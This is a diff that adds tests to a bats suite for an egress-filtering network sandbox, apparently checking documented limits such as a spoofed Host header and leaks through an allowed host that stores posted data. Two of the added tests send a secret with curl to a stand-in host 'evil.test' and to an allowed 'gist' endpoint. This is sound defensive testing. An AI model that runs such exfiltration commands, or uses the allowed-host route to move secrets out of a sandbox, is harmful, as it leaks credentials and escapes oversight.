@@ -106,6 +106,14 @@ refused_by_us() {
     done
 }
 
+@test "A101 documented: another host's name inside the encrypted request" {
+    # The server that was allowed answers; nobody else is reached.
+    [ "$(netbox -- curl -sSk -H "Host: evil.test:$CANARY" https://ok.test/hello)" = hello ]
+    grep -q "GET /hello evil.test:$CANARY" "$NET/log"
+    nobody_reached
+    grep -q 'can be asked' "$ABX_SOURCE/docs/threat-model.md"
+}
+
 @test "A102 A107 every request of a connection, a redirect's too" {
     run say 3128 "GET http://ok.test/hello HTTP/1.1\r\nHost: x\r\n\r\nGET http://evil.test:$CANARY/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"
     [[ $output == *"200 OK"*hello*" 403 "*"not allowed"* ]]
@@ -260,6 +268,13 @@ for i in range(600):
 open("up", "w").close(); time.sleep(600)'
     wait_for test -e "$W/up"
     [ "$(netbox -- curl -sS http://ok.test/hello)" = hello ]
+}
+
+@test "A120 documented: an allowed host that stores what it is sent is a way out; another is not" {
+    run netbox --env S="$SECRET" -c 'curl -sS -d "$S" http://ok.test/gist; curl -sS -d "$S" "http://evil.test:'"$CANARY"'/"'
+    [[ $output == "got ${#SECRET} "*"not allowed"* ]]
+    grep -q 'stores what anybody sends' "$ABX_SOURCE/docs/threat-model.md"
+    nobody_reached
 }
 
 @test "A121 a client that knows no proxy fails at once, and is not let through" {
